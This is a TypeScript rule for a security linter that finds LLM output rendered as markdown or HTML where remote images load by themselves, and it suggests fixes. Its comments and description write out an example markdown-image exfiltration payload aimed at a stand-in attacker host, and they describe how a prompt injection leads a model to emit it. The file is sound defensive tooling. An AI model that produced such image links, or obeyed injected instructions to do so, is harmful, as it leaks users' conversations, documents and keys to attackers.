import { jsStackOrder } from '../../../server/src/analyzers/js/calls';
import type { PyNode as Node } from '../../../server/src/analyzers/python/tree';
import type { TSESTree } from '@typescript-eslint/typescript-estree';
import { CTX, MARKDOWN_IMAGES_STRIPPED, MARKDOWN_RENDERED, jsChildren, jsFlow, kids, memberKey, objProp, pyArgs, pythonFlow, unwrap } from '../../../server/src/analyzers/flow';
import type { Taint } from '../../../server/src/analyzers/flow';
import { defineRule } from '../../../server/src/engine/rule';

/**
 * Sinks that render markdown: `![x](https://attacker/?q=<secret>)` becomes an image the browser fetches
 * without a click. HTML sinks are llm-output-html-injection's job while the value is unsanitized; here they
 * are reported only once it was sanitized by something that keeps `<img>` (DOMPurify, nh3 defaults).
 */
const PY_MARKDOWN_SINK = /^streamlit\.(\w+(\(\))?\.)*(markdown|write|write_stream|caption)$/;
const PY_CONTAINER_METHODS = new Set(['markdown', 'write', 'write_stream', 'caption']);
const PY_GRADIO_MARKDOWN = new Set(['gradio.Markdown', 'gradio.update', 'gradio.Markdown.update']);
/** The HTML sinks of llm-output-html-injection (kept in step with it to avoid double reports). */
const PY_HTML_SINKS = new Set([
  'markupsafe.Markup', 'flask.Markup', 'jinja2.Markup', 'Markup', 'django.utils.safestring.mark_safe', 'mark_safe',
  'fastapi.responses.HTMLResponse', 'starlette.responses.HTMLResponse', 'HTMLResponse', 'IPython.display.HTML', 'IPython.core.display.HTML',
  'gradio.HTML', 'streamlit.html',
]);
const PY_TEMPLATE_RENDER = /(^|\.)(render_template|render|TemplateResponse)$/;
const ROUTE_DECORATOR = /^(route|get|post|put|patch|delete|api_route)$/;
const JS_HTML_PROPERTIES = new Set(['innerHTML', 'outerHTML', 'srcdoc']);
/** React markdown components, by import (module or module.export) or by a wrapper's name. */
const JS_MARKDOWN_MODULES = /^(react-markdown(\.(MarkdownHooks|MarkdownAsync|default))?|streamdown\.Streamdown|@uiw\/react-markdown-preview|markdown-to-jsx(\.default)?|@uiw\/react-md-editor\.default\.Markdown)$/;
const JS_MARKDOWN_NAME = /^(Memoized)?(React)?Markdown(Hooks|Async|Preview|Renderer|Content)?$|^Streamdown$/;

export default defineRule({
  meta: {
    id: 'markdown-image-exfiltration',
    name: 'MarkdownImageExfiltration',
    shortDescription: 'Model output is rendered as markdown or HTML where remote images load by themselves.',
    fullDescription: 'A prompt injection (in a web page, document or tool result the model reads) can make the model answer with `![x](https://attacker.example/?q=<secret>)`. Chat UIs that render the answer as markdown (Streamlit st.markdown, Gradio Markdown, react-markdown, marked + innerHTML) turn it into an <img> the browser fetches at once, sending the conversation, retrieved documents or keys to the attacker without a click. Strip images, allow only trusted image hosts, or render the answer as plain text.',
    views: ['python', 'js'],
    severity: 'warning',
    confidence: 'medium',
    owasp: ['LLM02', 'LLM05'],
    cwe: [359, 201],
    frameworks: { nistAiRmf: ['MEASURE 2.7', 'MEASURE 2.10', 'MANAGE 2.4'], euAiAct: ['Art. 15'], iso42001: ['A.6.2.4', 'A.7.4'] },
    fix: 'suggestion',
    messages: {
      markdown: 'Model output from `{{source}}` is rendered as markdown by `{{sink}}`, which loads remote images by itself: a prompt injection can leak data in an image URL. Strip images or allow only trusted image hosts.',
      html: 'Model output from `{{source}}` reaches `{{sink}}` as HTML that can still hold remote `<img>` tags (the sanitizer keeps them): they load by themselves and can leak data in their URL. Forbid `img` or rewrite image URLs to trusted hosts.',
      rendered: 'Markdown rendered from model output (`{{source}}`) is served as HTML by `{{sink}}`: its remote images load by themselves and can leak data in their URL. Strip images before rendering or sanitize with `img` forbidden.',
    },
  },
  check: {
    python(ctx) {
      const flow = pythonFlow(ctx.view);
      const model = (n: Node | undefined): Taint | undefined => (n ? flow.reaches(n, 'model') : undefined);
      const report = (messageId: string, arg: Node, t: Taint, sink: string): void =>
        ctx.report({ messageId, data: { source: t.origin, sink }, start: arg.startIndex, end: arg.endIndex });
      const qual = (n: Node): string => flow.qualName(n).replace(/^st\./, 'streamlit.').replace(/^gr\./, 'gradio.');
      // names bound to Streamlit containers: box = st.empty(); with st.chat_message("assistant") as msg
      const containers = new Set<string>();
      const streamlitCall = (v: Node | null | undefined): boolean => v?.type === 'call' && /^streamlit\./.test(qual(v.childForFieldName('function') ?? v));
      const routes: Node[] = [];
      const flask = /^\s*(from\s+flask\b|import\s+flask\b)/m.test(ctx.view.text);
      // the nodes of these types, from the tree's index (no walk of every node)
      for (const n of ctx.view.root.descendantsOfType(['assignment', 'as_pattern', 'decorated_definition'])) {
        if (n.type === 'assignment' && streamlitCall(n.childForFieldName('right'))) {
          const left = n.childForFieldName('left');
          for (const id of left?.type === 'identifier' ? [left] : left ? kids(left) : []) if (id.type === 'identifier') containers.add(id.text);
        }
        if (n.type === 'as_pattern' && streamlitCall(kids(n)[0])) {
          const alias = n.childForFieldName('alias');
          const id = alias?.type === 'as_pattern_target' ? kids(alias)[0] : alias;
          if (id) containers.add(id.text);
        }
        if (n.type === 'decorated_definition' && servesHtml(n, flask)) {
          const def = n.childForFieldName('definition');
          if (def) routes.push(def);
        }
      }
      const htmlInjectionReports = (q: string, arg: Node, unsafeHtml: boolean): boolean =>
        (q === 'streamlit.markdown' || q === 'streamlit.write') && unsafeHtml && !!flow.reaches(arg, 'model', 'html');
      for (const call of flow.calls) {
        const fn = call.childForFieldName('function');
        if (!fn) continue;
        const q = qual(fn);
        const { positional, keywords } = pyArgs(call);
        const recv = fn.type === 'attribute' ? fn.childForFieldName('object') : undefined;
        const method = fn.type === 'attribute' ? fn.childForFieldName('attribute')?.text ?? '' : '';
        if (PY_MARKDOWN_SINK.test(q) || (recv?.type === 'identifier' && containers.has(recv.text) && PY_CONTAINER_METHODS.has(method))) {
          const unsafeHtml = keywords.get('unsafe_allow_html')?.text === 'True';
          const args = /write$/.test(q) ? positional : [positional[0] ?? keywords.get('body')].filter((a): a is Node => !!a);
          for (const arg of args) {
            const t = model(arg);
            if (!t || t.sanitized & MARKDOWN_IMAGES_STRIPPED || htmlInjectionReports(q, arg, unsafeHtml)) continue;
            report('markdown', arg, t, q.replace(/^streamlit\./, 'st.'));
          }
        } else if (PY_GRADIO_MARKDOWN.has(q)) {
          const arg = positional[0] ?? keywords.get('value');
          const t = model(arg);
          if (arg && t && !(t.sanitized & MARKDOWN_IMAGES_STRIPPED)) report('markdown', arg, t, q.replace(/^gradio\./, 'gr.'));
        } else if (PY_HTML_SINKS.has(q)) {
          const arg = positional[0] ?? keywords.get('content') ?? keywords.get('value');
          const t = arg ? flow.reaches(arg, 'model', 'image') : undefined;
          if (arg && t && t.sanitized & CTX.html) report('html', arg, t, q.split('.').pop() ?? q);
        } else if (PY_TEMPLATE_RENDER.test(q) && flask) {
          for (const [, v] of keywords) {
            const t = flow.reaches(v, 'model', 'image');
            if (t && t.sanitized & MARKDOWN_RENDERED) report('rendered', v, t, q.split('.').pop() ?? q);
          }
        }
      }
      // a Flask view returning rendered markdown serves it as text/html
      for (const def of routes) {
        const body = def.childForFieldName('body');
        const todo: Node[] = body ? [body] : [];
        while (todo.length) {
          const n = todo.pop()!;
          if (n.type === 'function_definition' || n.type === 'lambda') continue;
          if (n.type === 'return_statement') {
            const e = kids(n)[0];
            const t = e ? flow.reaches(e, 'model', 'image') : undefined;
            if (e && t && t.sanitized & MARKDOWN_RENDERED && !(t.sanitized & CTX.html)) report('rendered', e, t, 'return');
            else if (e && t && t.sanitized & MARKDOWN_RENDERED) report('html', e, t, 'return');
          }
          for (const c of kids(n)) todo.push(c);
        }
      }
    },
    js(ctx) {
      const flow = jsFlow(ctx.view);
      const reportHtml = (arg: TSESTree.Node | undefined, sink: string): void => {
        if (!arg) return;
        const t = flow.reaches(arg, 'model', 'image');
        // unsanitized HTML is llm-output-html-injection's finding
        if (t && t.sanitized & CTX.html) ctx.report({ messageId: 'html', data: { source: t.origin, sink }, start: arg.range[0], end: arg.range[1] });
      };
      for (const a of flow.assignments) {
        const left = unwrap(a.left);
        if (left.type === 'MemberExpression' && !left.computed && left.property.type === 'Identifier' && JS_HTML_PROPERTIES.has(left.property.name)) reportHtml(a.right, left.property.name);
      }
      for (const call of flow.calls) {
        if (call.type !== 'CallExpression') continue;
        const callee = unwrap(call.callee);
        if (callee.type !== 'MemberExpression' || callee.computed || callee.property.type !== 'Identifier') continue;
        const method = callee.property.name;
        if (method === 'insertAdjacentHTML') reportHtml(call.arguments[1], method);
        else if ((method === 'write' || method === 'writeln') && /document$/.test(memberKey(callee.object) ?? '')) reportHtml(call.arguments[0], `document.${method}`);
        else if (method === 'createContextualFragment') reportHtml(call.arguments[0], method);
      }
      for (const attr of flow.jsxAttributes) {
        if (attr.name.type !== 'JSXIdentifier' || attr.name.name !== 'dangerouslySetInnerHTML' || attr.value?.type !== 'JSXExpressionContainer') continue;
        const expr = attr.value.expression;
        if (expr.type === 'JSXEmptyExpression') continue;
        const html = objProp(expr, '__html');
        reportHtml(html ? html.value : expr, 'dangerouslySetInnerHTML');
      }
      // <ReactMarkdown>{answer}</ReactMarkdown> without an image policy
      const order = jsStackOrder(ctx.view.ast);
      // components of this file: a wrapper named like a markdown component is analysed where it renders the real one
      const local = new Set<string>();
      for (const n of order) {
        if (n.type === 'FunctionDeclaration' && n.id) local.add(n.id.name);
        else if (n.type === 'VariableDeclarator' && n.id.type === 'Identifier' && n.init && /^(ArrowFunctionExpression|FunctionExpression|CallExpression)$/.test(n.init.type)) local.add(n.id.name);
        else if (n.type === 'ClassDeclaration' && n.id) local.add(n.id.name);
      }
      for (const n of order) {
        if (n.type !== 'JSXElement' || n.openingElement.name.type !== 'JSXIdentifier') continue;
        const opening = n.openingElement;
        const name = (opening.name as TSESTree.JSXIdentifier).name;
        const byModule = JS_MARKDOWN_MODULES.test(flow.qualName({ type: 'Identifier', name, range: opening.name.range } as TSESTree.Identifier));
        if (!byModule && (!JS_MARKDOWN_NAME.test(name) || local.has(name))) continue;
        const attrs = new Map<string, TSESTree.JSXAttribute>();
        let spread = false;
        for (const a of opening.attributes) {
          if (a.type === 'JSXSpreadAttribute') spread = true;
          else if (a.name.type === 'JSXIdentifier') attrs.set(a.name.name, a);
        }
        if (spread || blocksImages(attrs, ctx.view.text)) continue;
        const contents: TSESTree.Node[] = n.children.filter((c) => c.type === 'JSXExpressionContainer');
        for (const key of ['children', 'source', 'content', 'markdown']) {
          const v = attrs.get(key)?.value;
          if (v) contents.push(v);
        }
        for (const c of contents) {
          const t = flow.reaches(c, 'model');
          if (!t || t.sanitized & MARKDOWN_IMAGES_STRIPPED) continue;
          const at = opening.name.range[1];
          const fixes = attrs.has('disallowedElements') || attrs.has('allowedElements') ? [] : [{
            title: 'Do not render images from model output (disallowedElements={[\'img\']})',
            kind: 'suggestion' as const,
            edits: [{ start: at, end: at, newText: ' disallowedElements={[\'img\']}' }],
          }];
          const node = c.type === 'JSXExpressionContainer' && c.expression.type !== 'JSXEmptyExpression' ? c.expression : c;
          ctx.report({ messageId: 'markdown', data: { source: t.origin, sink: `<${name}>` }, start: node.range[0], end: node.range[1], fixes });
        }
      }
    },
  },
});

/** Props of a react-markdown-like component that stop remote images from loading. */
function blocksImages(attrs: Map<string, TSESTree.JSXAttribute>, text: string): boolean {
  const valueText = (key: string): string | undefined => {
    const v = attrs.get(key)?.value;
    return v ? text.slice(v.range[0], v.range[1]) : undefined;
  };
  const img = /['"`]img['"`]/;
  const transform = valueText('urlTransform') ?? valueText('transformImageUri');
  if (transform !== undefined && !/^\{?\s*defaultUrlTransform\s*\}?$/.test(transform)) return true;
  if (img.test(valueText('disallowedElements') ?? '')) return true;
  const allowed = valueText('allowedElements');
  if (allowed !== undefined && !img.test(allowed)) return true;
  const components = attrs.get('components')?.value;
  if (components?.type === 'JSXExpressionContainer' && components.expression.type !== 'JSXEmptyExpression') {
    const expr = unwrap(components.expression);
    if (expr.type === 'ObjectExpression' && objProp(expr, 'img')) return true;
    if (expr.type === 'Identifier') return true; // a components map defined elsewhere: trust it
  }
  const prefixes = valueText('allowedImagePrefixes');
  if (prefixes !== undefined && !/['"`]\*['"`]/.test(prefixes)) return true;
  if (valueText('allowElement') !== undefined) return true;
  return false;
}

/** A decorated function whose return value is served as HTML: a Flask view, or a route with response_class=HTMLResponse. */
function servesHtml(decorated: Node, flask: boolean): boolean {
  for (const d of kids(decorated)) {
    if (d.type !== 'decorator') continue;
    const e = kids(d)[0];
    const callee = e?.type === 'call' ? e.childForFieldName('function') : e;
    if (callee?.type !== 'attribute' || !ROUTE_DECORATOR.test(callee.childForFieldName('attribute')?.text ?? '')) continue;
    if (e?.type === 'call' && /HTMLResponse$/.test(pyArgs(e).keywords.get('response_class')?.text ?? '')) return true;
    if (flask) return true;
  }
  return false;
}
